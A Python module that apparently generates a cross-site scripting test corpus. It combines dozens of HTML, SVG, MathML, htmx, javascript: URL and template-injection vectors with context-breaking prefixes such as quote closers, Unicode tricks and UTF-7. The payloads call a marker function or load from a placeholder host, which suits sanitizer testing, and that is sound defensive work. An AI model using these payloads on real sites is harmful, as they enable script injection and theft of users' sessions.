"""What somebody would write into a field to have it run in another's browser: a list of vectors, and the places in a
page they could have to break out of. `fired(n)` is what each tries to call; the sentinel is what each tries to load."""

from itertools import count

SENTINEL = "sentinel.invalid"
VECTORS = [
    "<script>FIRE</script>", "<ScRiPt >FIRE</sCrIpT>", "<script/x>FIRE</script>", "<script\n>FIRE</script\n>",
    "<scr<script>ipt>FIRE</scr</script>ipt>", "<script src=https://SENTINEL/x.js></script>", "<script type=module>FIRE</script>",
    "<img src=x onerror=FIRE>", '<img src="x" onerror="FIRE">', "<img/src/onerror=FIRE>", "<img src=x:x onerror=FIRE//", "<IMG SRC=x OnErRoR=FIRE>",
    "<svg onload=FIRE>", "<svg/onload=FIRE>", "<svg><script>FIRE</script></svg>", "<svg><animate onbegin=FIRE attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:FIRE><text y=20>x</text></a></svg>", "<svg><use href=https://SENTINEL/x.svg#a></svg>",
    "<svg><style><img src=x onerror=FIRE></style></svg>", "<svg><foreignObject><img src=x onerror=FIRE></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=FIRE>", "<math><mi//xlink:href=javascript:FIRE>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=FIRE>", "<noscript><p title=\"</noscript><img src=x onerror=FIRE>\">",
    "<body onload=FIRE>", "<body onpageshow=FIRE>", "<iframe src=javascript:parent.FIRE></iframe>", "<iframe srcdoc=\"<script>parent.FIRE</script>\"></iframe>",
    "<iframe onload=FIRE></iframe>", "<object data=javascript:FIRE></object>", "<object data=data:text/html,<script>FIRE</script>></object>",
    "<embed src=javascript:FIRE>", "<details open ontoggle=FIRE>", "<audio src=x onerror=FIRE>", "<video><source onerror=FIRE></video>",
    "<video src=x onerror=FIRE>", "<input autofocus onfocus=FIRE>", "<select autofocus onfocus=FIRE>", "<textarea autofocus onfocus=FIRE>",
    "<marquee onstart=FIRE>", "<style>@import 'https://SENTINEL/x.css';</style>", "<style>*{background:url(https://SENTINEL/y)}</style>",
    "<link rel=stylesheet href=https://SENTINEL/z.css>", "<style onload=FIRE></style>", "<meta http-equiv=refresh content=\"0;url=javascript:FIRE\">",
    "<base href=https://SENTINEL/>", "<a href=javascript:FIRE>x</a>", "<a href=\"java\tscript:FIRE\">x</a>", "<a href=\" &#106;avascript:FIRE\">x</a>",
    "<a href=data:text/html,<script>FIRE</script>>x</a>", "<a href=vbscript:FIRE>x</a>", "<form action=javascript:FIRE><button>x</button></form>",
    "<button formaction=javascript:FIRE>x</button>", "<x onclick=FIRE tabindex=1>x", "<div style=\"background:url(https://SENTINEL/b)\">x</div>",
    "<img src=x hx-on:error=FIRE>", "<div hx-get=https://SENTINEL/h hx-trigger=load>x</div>", "<div hx-vals='js:{x:FIRE}' hx-get=/ hx-trigger=load>x</div>",
    "<div data-hx-on-load=FIRE hx-trigger=load>x</div>", "<img src=https://SENTINEL/pixel>", "<image src=x onerror=FIRE>",
    "javascript:FIRE", "data:text/html,<script>FIRE</script>", "{{constructor.constructor('FIRE')()}}", "${FIRE}", "{% debug %}{{ request }}", "<%= FIRE %>",
]  # fmt: skip
# What a value could stand in, and so what ends it first.
BREAKS = [
    "", "\">", "'>", "--></title></style></textarea></script>", "\u202e\u2066\">", "\"autofocus onfocus=FIRE x=\"", "'-FIRE-'", "\\\"-FIRE//",
    "\ufeff\u200b<", "&lt;&quot;&#x3e;", "\ufffd\u0080\"'>", "+ADw-script+AD4-FIRE+ADw-/script+AD4-", "]]>",
]  # fmt: skip


def _payloads() -> list[str]:
    numbers, made = count(1), []
    for at, vector in enumerate(VECTORS):
        # Each vector as it is, and in four other places, so that all meet all over the list.
        for step in (0, 1 + at % 3, 4 + at % 3, 7 + at % 3, 10 + at % 3):
            text = BREAKS[step] + vector
            made.append(text.replace("FIRE", f"fired({next(numbers)})").replace("SENTINEL", SENTINEL))
    return made


PAYLOADS = _payloads()
ALL = " ".join(PAYLOADS)


def group(number: int, longest: int) -> str:
    """Some of them that fit, other ones for each number."""
    chosen, length = [], 0
    for at in range(len(PAYLOADS)):
        text = PAYLOADS[(number * 7 + at) % len(PAYLOADS)]
        if length + len(text) + 1 > longest:
            break
        chosen.append(text)
        length += len(text) + 1
    return " ".join(chosen)
